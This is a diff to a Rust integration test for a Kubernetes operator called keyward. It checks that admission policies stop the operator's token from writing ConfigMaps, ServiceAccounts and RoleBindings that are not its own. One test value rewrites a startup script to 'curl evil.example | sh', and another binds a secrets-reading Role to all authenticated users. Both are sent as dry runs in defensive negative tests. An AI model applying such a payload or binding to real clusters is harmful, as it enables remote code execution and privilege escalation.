@@ -14,7 +14,8 @@ use std::process::{Command, Stdio};
 use k8s_openapi::api::apps::v1::{Deployment, StatefulSet};
 use k8s_openapi::api::authentication::v1::{TokenRequest, TokenRequestSpec};
 use k8s_openapi::api::batch::v1::Job;
-use k8s_openapi::api::core::v1::ServiceAccount;
+use k8s_openapi::api::core::v1::{ConfigMap, ServiceAccount};
+use k8s_openapi::api::rbac::v1::{Role, RoleBinding};
 use keyward::crd::{EncryptionKey, OAuthClient};
 use kube::api::{Api, Patch, PatchParams, PostParams};
 use kube::config::{KubeConfigOptions, Kubeconfig};
@@ -169,9 +170,13 @@ async fn install(cluster: &TestCluster, namespace: &str, values: &[&str]) -> Ins
         kubeconfig,
     };
     // Every test runs the operator under the policies, not in the moments before the API
-    // server enforces them.
-    let jobs = Api::namespaced(install.client().await, namespace);
-    let mut probe = reencryption_job(namespace, &install.job_image);
+    // server enforces them. The probe goes where the operator may create Jobs.
+    let probed = install
+        .watch_namespaces
+        .first()
+        .map_or(namespace, String::as_str);
+    let jobs = Api::namespaced(install.client().await, probed);
+    let mut probe = reencryption_job(probed, &install.job_image);
     probe["spec"]["template"]["spec"]["containers"][0]["image"] =
         json!("docker.io/library/busybox:1.36");
     let probe: Job = serde_json::from_value(probe).expect("a Job");
@@ -657,16 +662,15 @@ async fn until_enforced(jobs: &Api<Job>, probe: &Job, policies: &[String]) {
 }
 
 #[tokio::test]
-async fn the_operators_token_creates_only_keywards_jobs_and_changes_only_keywards_part_of_a_workload()
- {
+async fn the_operators_token_writes_only_keywards_own_jobs_workload_fields_and_objects() {
     let cluster = support::cluster("chart-admission").await;
     let namespace = cluster.namespace.clone();
     let _log = jobs::runner().log_on_failure(&namespace);
     let install = install(&cluster, &namespace, &[]).await;
     assert_eq!(
         install.policies.len(),
-        2,
-        "a policy for Jobs, one for workloads"
+        3,
+        "a policy for Jobs, one for workloads, one for the objects keyward writes"
     );
     let operator = install.operator(&namespace);
 
@@ -1010,6 +1014,108 @@ async fn the_operators_token_creates_only_keywards_jobs_and_changes_only_keyward
         policies,
         "a StatefulSet patch of the user's own variable",
         "environment variables taken from a Secret",
+        result,
+    );
+
+    // ConfigMaps, ServiceAccounts and RoleBindings: only keyward's own re-encryption
+    // identities and progress ConfigMaps.
+    let config_maps: Api<ConfigMap> = Api::namespaced(cluster.client.clone(), &namespace);
+    for name in ["app-config", "billing-reencryption"] {
+        let config_map = json!({
+            "apiVersion": "v1", "kind": "ConfigMap",
+            "metadata": {"name": name},
+            "data": {"start.sh": "exec /app/server"},
+        });
+        config_maps
+            .create(
+                &PostParams::default(),
+                &serde_json::from_value(config_map).expect("a ConfigMap"),
+            )
+            .await
+            .expect("the application's ConfigMap is created");
+    }
+    let config_maps: Api<ConfigMap> = Api::namespaced(as_operator.clone(), &namespace);
+    let rewrite = json!({"data": {"start.sh": "curl evil.example | sh"}});
+    let merge = PatchParams {
+        dry_run: true,
+        ..PatchParams::default()
+    };
+    for (name, expected) in [
+        ("app-config", "not app-config"),
+        ("billing-reencryption", "owned by an EncryptionKey"),
+    ] {
+        let result = config_maps
+            .patch(name, &merge, &Patch::Merge(&rewrite))
+            .await;
+        check(
+            &mut wrong,
+            policies,
+            &format!("a rewrite of the application's ConfigMap {name}"),
+            expected,
+            result,
+        );
+    }
+    let key = Api::<EncryptionKey>::namespaced(cluster.client.clone(), &namespace)
+        .get("apim")
+        .await
+        .expect("the EncryptionKey");
+    let keywards = json!({
+        "labels": {"app.kubernetes.io/managed-by": "keyward"},
+        "ownerReferences": [{
+            "apiVersion": "keyward.io/v1alpha1", "kind": "EncryptionKey",
+            "name": "apim", "uid": key.metadata.uid,
+        }],
+    });
+    let accounts: Api<ServiceAccount> = Api::namespaced(as_operator.clone(), &namespace);
+    let mut account =
+        json!({"apiVersion": "v1", "kind": "ServiceAccount", "metadata": keywards.clone()});
+    account["metadata"]["name"] = json!("deployer");
+    let result = accounts
+        .create(
+            &dry_run,
+            &serde_json::from_value(account).expect("a ServiceAccount"),
+        )
+        .await;
+    check(
+        &mut wrong,
+        policies,
+        "a ServiceAccount of another name",
+        "not deployer",
+        result,
+    );
+    // The Role a binding names must exist, and hold only what the operator holds, for
+    // the API server's escalation check to let the request through to admission.
+    let role = json!({
+        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
+        "metadata": {"name": "apim-reencrypt"},
+        "rules": [{"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"]}],
+    });
+    Api::<Role>::namespaced(cluster.client.clone(), &namespace)
+        .create(
+            &PostParams::default(),
+            &serde_json::from_value(role).expect("a Role"),
+        )
+        .await
+        .expect("the Role is created");
+    let bindings: Api<RoleBinding> = Api::namespaced(as_operator.clone(), &namespace);
+    let mut binding = json!({
+        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
+        "metadata": keywards,
+        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "apim-reencrypt"},
+        "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "Group", "name": "system:authenticated"}],
+    });
+    binding["metadata"]["name"] = json!("apim-reencrypt");
+    let result = bindings
+        .create(
+            &dry_run,
+            &serde_json::from_value(binding).expect("a RoleBinding"),
+        )
+        .await;
+    check(
+        &mut wrong,
+        policies,
+        "a binding of keyward's Role to every authenticated user",
+        "only to the ServiceAccount of the same name",
         result,
     );
     assert!(
